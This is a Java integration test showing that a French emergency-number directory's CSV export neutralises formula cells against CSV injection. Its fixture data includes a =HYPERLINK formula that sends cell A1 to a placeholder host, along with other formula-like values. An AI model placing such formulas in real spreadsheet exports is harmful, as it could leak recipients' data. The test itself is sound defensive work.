package fr.tocsin.fallback.csv;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import com.google.i18n.phonenumbers.PhoneNumberUtil;
import fr.tocsin.testsupport.TestDatabase;
import fr.tocsin.testsupport.TocsinStackResource;
import fr.tocsin.testsupport.Tokens;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;

/**
 * The CSV export opened in a spreadsheet never runs a formula (#14 finding 10, OWASP CSV injection): every cell
 * beginning with {@code = + - @}, tab or CR gets a leading {@code '}; and importing the export gives back exactly
 * what was registered.
 */
@QuarkusTest
@WithTestResource(value = TocsinStackResource.class, initArgs = @ResourceArg(name = "database", value = "fallback"))
class CsvExportTest {

    private static final String DIRECTORY = "select territory, service, priority, e164, label, coalesce(notes, ''), authority, "
            + "coalesce(verified_on::text, '') from fallback_number order by territory, service, e164";

    @BeforeEach
    void empty() {
        TestDatabase.execute("fallback", "truncate fallback_number, live_numbers, live_numbers_history");
    }

    @Test
    void formulaCellsAreNeutralisedAndTheExportImportsBackUnchanged() throws IOException {
        register("department:59", "15", "03 53 01 00 11", "=HYPERLINK(\"https://exemple.invalid/?\"&A1,\"SAMU\")",
                "+33 3 53 01 00 12 si saturé", "@prefet59");
        register("department:59", "17", "03 53 01 00 13", "-2+3 Police", "=1+1", "'=déjà une apostrophe");
        register("department:59", "18", "03 53 01 00 14", "Pompiers du Nord", "24 h/24, SMS", "Préfecture du Nord");
        // New Caledonia: no trunk 0, so the export writes it internationally, a leading + that needs the ' too.
        PhoneNumberUtil util = PhoneNumberUtil.getInstance();
        String caledonian = util.format(util.getExampleNumberForType("NC", PhoneNumberUtil.PhoneNumberType.FIXED_LINE),
                PhoneNumberUtil.PhoneNumberFormat.INTERNATIONAL);
        register("department:988", "15", caledonian, "SAMU de Nouvelle-Calédonie", "", "Haut-commissariat");
        List<List<String>> before = TestDatabase.query("fallback", DIRECTORY);

        String export = given().header("Authorization", Tokens.bearer(Tokens.ministry()))
                .get("/api/v1/fallback-numbers/export").then().statusCode(200).extract().asString();
        List<Map<String, String>> rows = read(export);
        assertThat(rows).hasSize(4);
        for (Map<String, String> row : rows) {
            row.forEach((column, cell) -> assertThat(cell).as(column).doesNotStartWith("=").doesNotStartWith("+")
                    .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r"));
        }
        Map<String, String> samu = rows.getFirst();
        assertThat(samu.get("label")).isEqualTo("'=HYPERLINK(\"https://exemple.invalid/?\"&A1,\"SAMU\")");
        assertThat(samu.get("notes")).isEqualTo("'+33 3 53 01 00 12 si saturé");
        assertThat(samu.get("authority")).isEqualTo("'@prefet59");
        assertThat(rows.get(1).get("label")).isEqualTo("'-2+3 Police");
        assertThat(rows.get(1).get("authority")).isEqualTo("''=déjà une apostrophe");
        assertThat(rows.get(2).get("label")).isEqualTo("Pompiers du Nord");
        assertThat(rows.get(2).get("number")).isEqualTo("03 53 01 00 14");
        assertThat(rows.get(3).get("number")).isEqualTo("'" + caledonian);

        TestDatabase.execute("fallback", "truncate fallback_number, live_numbers, live_numbers_history");
        given().header("Authorization", Tokens.bearer(Tokens.ministry())).contentType("text/csv")
                .body(export.getBytes(StandardCharsets.UTF_8))
                .post("/api/v1/fallback-numbers/import").then().statusCode(200).body("created", equalTo(4));
        assertThat(TestDatabase.query("fallback", DIRECTORY)).isEqualTo(before);
    }

    private static void register(String territory, String service, String number, String label, String notes,
                                 String authority) {
        given().header("Authorization", Tokens.bearer(Tokens.ministry())).contentType(ContentType.JSON)
                .body(Map.of("territory", territory, "service", service, "number", number, "label", label,
                        "notes", notes, "authority", authority, "verifiedOn", "2026-11-01"))
                .post("/api/v1/fallback-numbers").then().statusCode(201);
    }

    private static List<Map<String, String>> read(String csv) throws IOException {
        try (MappingIterator<Map<String, String>> it = new CsvMapper().readerFor(Map.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(csv)) {
            return it.readAll();
        }
    }
}
